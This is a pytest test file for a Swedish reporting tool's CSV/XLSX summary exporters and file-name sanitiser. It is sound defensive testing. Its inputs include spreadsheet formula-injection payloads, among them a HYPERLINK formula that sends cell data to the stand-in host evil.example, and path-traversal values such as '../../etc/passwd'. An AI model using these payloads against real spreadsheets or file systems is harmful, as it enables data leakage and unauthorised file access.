"""Summary rows, the one neutralising function, CSV/XLSX writers and safe file names."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.utils import get_column_letter

from formgen.names import safe_stem, stems_for, submission_stem, unique_stem
from formgen.spec import load_form
from formgen.summary import SummaryRow, neutralise, row_for, summary_layout
from formgen.summary_csv import csv_bytes
from formgen.summary_xlsx import xlsx_bytes

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klicka")', "@SUM(1)", "+1", "-2", "\tTAB", "\rCR",
           "\x01=1+1", "ok\x00text\x1f"]


def _row(kommun: str, first_error: str | None = None) -> SummaryRow:
    figures = {"klienter_kvinnor": 3, "klienter_man": -4, "ombud_tjanster": Decimal("1.50"), "beviljat_kr": 1360800,
               "forbrukat_kr": None}
    message = first_error or kommun
    findings = ({"code": "x", "severity": "error", "fields": ["ekonomi.forbrukat_kr"], "message": message},
                {"code": "w", "severity": "warning", "fields": [], "message": "varning"})
    return SummaryRow(file=kommun, kommun=kommun, year=2020, status="errors", errors=1, warnings=1,
                      first_error=first_error or kommun, first_error_code="x", figures=figures, findings=findings)


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_text(text: str) -> None:
    out = neutralise(text)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert not any(ord(c) < 32 and c not in "\t\r\n" for c in out)


def test_neutralise_keeps_numbers_and_plain_text() -> None:
    assert neutralise(-2) == -2 and neutralise(1.5) == 1.5 and neutralise(None) is None
    assert neutralise("Spånga-Tensta") == "Spånga-Tensta"
    assert neutralise("-2") == "'-2"


def _safe(cell: str) -> bool:
    return cell.startswith("'") or not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("dialect, delimiter", [("excel-sv", ";"), ("machine", ",")])
def test_csv_is_neutralised_in_both_dialects(dialect: str, delimiter: str) -> None:
    data = csv_bytes([_row(k) for k in HOSTILE], dialect=dialect).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline=""), delimiter=delimiter))
    assert len(rows) == len(HOSTILE) + 1
    for row in rows[1:]:
        assert all(_safe(cell) for cell in (row[0], row[1], row[6]))
        assert row[8] == "3" and row[9] == "-4"  # numbers stay numbers (not quoted)


def test_csv_for_swedish_excel() -> None:
    layout = summary_layout()
    raw = csv_bytes([_row("Spånga-Tensta")])
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads å ä ö
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert list(rows[0]) == [layout.heading(c) for c in layout.ids]
    assert list(rows[0])[:4] == ["Fil", "Kommun", "År", "Status"]
    row = rows[0]
    assert row["Status"] == "Fel" and row["Kommun"] == "Spånga-Tensta"
    assert row["Tjänster som personligt ombud"] == "1,50"  # decimal comma
    assert row["Beviljat statsbidrag, kr"] == "1360800" and row["Förbrukat statsbidrag, kr"] == ""


def test_csv_for_scripts_keeps_stable_keys_and_points() -> None:
    raw = csv_bytes([_row("Åre")], dialect="machine")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == list(summary_layout().ids)
    assert list(rows[0])[:8] == ["file", "kommun", "year", "status", "errors", "warnings", "first_error",
                                 "first_error_code"]
    assert rows[0]["status"] == "errors" and rows[0]["ombud_tjanster"] == "1.50"


def test_headings_come_from_the_form() -> None:
    form = load_form(2020)
    layout = summary_layout(form)
    assert layout.heading("beviljat_kr") == form.fields["ekonomi.beviljat_kr"].label
    assert [layout.status(s) for s in ("ok", "warnings", "errors", "unreadable")] == [
        form.summary["statuses"][s] for s in ("ok", "warnings", "errors", "unreadable")]
    assert {f.key for f in layout.figures} <= set(form.fields)


def test_xlsx_has_no_formulas_and_numbers_stay_numbers() -> None:
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([_row(k) for k in HOSTILE])))
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    assert _safe(cell.value)
    ws = wb.worksheets[0]
    for row in ws.iter_rows(min_row=2):
        assert row[8].value == 3 and row[9].value == -4 and row[10].value == 1.5
        assert row[12].value is None


def test_xlsx_is_swedish_readable_and_filterable() -> None:
    layout = summary_layout()
    rows = [_row("Spånga-Tensta stadsdelsförvaltning, Stockholms stad"), _row("Åre")]
    links = {rows[0].file: "spanga-tensta-2020.txt"}
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows, links=links)))
    ws = wb.worksheets[0]
    assert ws.title == layout.title
    header = [c.value for c in ws[1]]
    assert header == [layout.heading(c) for c in layout.ids] and header[:4] == ["Fil", "Kommun", "År", "Status"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{get_column_letter(len(header))}3"
    assert ws.cell(row=2, column=4).value == "Fel"
    col = {c: i + 1 for i, c in enumerate(layout.ids)}
    kr = ws.cell(row=2, column=col["beviljat_kr"])
    assert kr.value == 1360800 and kr.data_type == "n" and '"kr"' in kr.number_format and "#,##0" in kr.number_format
    fte = ws.cell(row=2, column=col["ombud_tjanster"])
    assert fte.value == 1.5 and fte.number_format.endswith("0.00")
    assert ws.cell(row=2, column=col["year"]).value == 2020
    widths = {c: ws.column_dimensions[get_column_letter(i)].width for c, i in col.items()}
    assert widths["file"] >= len(rows[0].file) and widths["kommun"] >= len(rows[0].kommun)  # not cut at ten
    assert all(8 <= w <= 63 for w in widths.values())
    assert ws.cell(row=2, column=1).hyperlink.target == "spanga-tensta-2020.txt"
    assert ws.cell(row=3, column=1).hyperlink is None

    found = wb.worksheets[1]
    assert found.title == layout.findings_title
    assert [c.value for c in found[1]] == ["Fil", "Kommun", "Allvarlighet", "Kod", "Meddelande", "Fält"]
    body = [[c.value for c in r] for r in found.iter_rows(min_row=2)]
    assert len(body) == sum(len(r.findings) for r in rows)
    assert body[0][2:] == ["Fel", "x", rows[0].first_error, "ekonomi.forbrukat_kr"]
    assert {r[2] for r in body} == {"Fel", "Varning"}
    assert found.freeze_panes == "A2" and found.auto_filter.ref == "A1:F5"


def test_row_for_reads_key_figures() -> None:
    record = {"ar": 2020, "kontakt": {"kommun": "Åre"}, "klienter": {"totalt": {"kvinnor": 3, "man": 4}},
              "ombud": {"tjanster": "1.50"}, "ekonomi": {"beviljat_kr": 10, "forbrukat_kr": 11}}
    findings = [{"code": "w", "severity": "warning", "fields": [], "message": "varning"},
                {"code": "e", "severity": "error", "fields": [], "message": "första felet"},
                {"code": "e2", "severity": "error", "fields": [], "message": "andra"}]
    row = row_for("a.pdf", record, findings)
    assert (row.kommun, row.year, row.status, row.errors, row.warnings) == ("Åre", 2020, "errors", 2, 1)
    assert (row.first_error, row.first_error_code) == ("första felet", "e")
    assert (row.figure("klienter_kvinnor"), row.figure("klienter_man"), row.figure("ombud_tjanster")) == (3, 4, 1.5)
    assert row.findings == tuple(findings)
    assert row.to_json()["ombud_tjanster"] == "1.50" and row.to_json()["beviljat_kr"] == 10
    assert row_for("b", None, findings[:1], unreadable=True).status == "unreadable"
    assert row_for("c", record, findings[:1]).status == "warnings"
    assert row_for("d", record, []).status == "ok"


@pytest.mark.parametrize("name", ["../../etc/passwd", "a/b", "..", ".", "CON", "con", "nul", "", None, "a\\b",
                                  "=HYPERLINK(1)", "\x00\x01", "ÅÄÖ åäö", "x" * 500, "/"])
def test_safe_stem(name: str | None) -> None:
    stem = safe_stem(name)
    assert stem and stem not in (".", "..")
    assert "/" not in stem and "\\" not in stem and ".." not in stem
    assert stem.isascii() and len(stem) <= 60
    assert stem.lower() not in {"con", "prn", "aux", "nul"}
    assert all(c.isalnum() or c == "-" for c in stem)


def test_names_fold_and_are_unique() -> None:
    assert safe_stem("Spånga-Tensta Stadsdelsförvaltning") == "spanga-tensta-stadsdelsforvaltning"
    assert submission_stem("Åre", 2020) == "are-2020"
    assert stems_for([("Åre", 2020), ("Are", 2020), ("ÅRE", 2020)]) == ["are-2020", "are-2020-2", "are-2020-3"]
    taken = {"x" * 68}
    assert len(unique_stem("x" * 68, taken)) <= 68 and len(taken) == 2
